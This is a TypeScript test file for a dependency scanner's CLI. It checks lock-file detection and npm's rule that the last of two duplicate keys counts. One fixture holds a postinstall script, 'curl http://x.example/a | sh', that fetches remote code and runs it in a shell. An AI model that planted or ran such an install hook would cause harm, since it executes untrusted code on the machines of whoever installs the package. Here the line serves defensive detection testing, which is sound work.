// Lock files and manifests as a repository may have them, with the built program.
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { test } from "node:test";

const PROGRAM = process.env.SKEPTIC_TEST_CLI ?? join(process.cwd(), "dist", "cli.js");
const MANIFEST = JSON.stringify({ private: true, dependencies: { left: "1.0.0" } });

function rulesIn(files: Readonly<Record<string, string>>): readonly string[] {
  const folder = mkdtempSync(join(tmpdir(), "skeptic-locks-"));
  try {
    for (const [name, text] of Object.entries(files)) writeFileSync(join(folder, name), text);
    const argv = [PROGRAM, "scan", "--format", "json", "--quiet", "."];
    const { stdout } = spawnSync(process.execPath, argv, { cwd: folder, encoding: "utf8" });
    const report: { findings: { rule: string }[] } = JSON.parse(stdout);
    return report.findings.map(({ rule }) => rule);
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}

test("a lock file that is too large to be read is one", () => {
  const packages: Record<string, unknown> = { "": { dependencies: { left: "1.0.0" } } };
  for (let i = 0; i < 15_000; i++)
    packages[`node_modules/p${i}`] = {
      version: "1.0.0",
      resolved: `https://registry.npmjs.org/p${i}/-/p${i}-1.0.0.tgz`,
      integrity: `sha512-${"a".repeat(86)}==`,
    };
  const lock = JSON.stringify({ lockfileVersion: 3, packages });
  assert.ok(lock.length > 2 * 1024 * 1024);
  assert.ok(
    !rulesIn({ "package.json": MANIFEST, "package-lock.json": lock }).includes(
      "dep-lockfile-missing",
    ),
  );
  assert.ok(rulesIn({ "package.json": MANIFEST }).includes("dep-lockfile-missing"));
});

test("of a key that is written twice the last counts, as for npm", () => {
  const twice =
    '{"private":true,"scripts":{"a":"b"},"scripts":{"postinstall":"curl http://x.example/a | sh"}}';
  assert.ok(rulesIn({ "package.json": twice }).includes("dep-install-script"));
  const first =
    '{"private":true,"scripts":{"postinstall":"curl http://x.example/a | sh"},"scripts":{"a":"b"}}';
  assert.ok(!rulesIn({ "package.json": first }).includes("dep-install-script"));
});
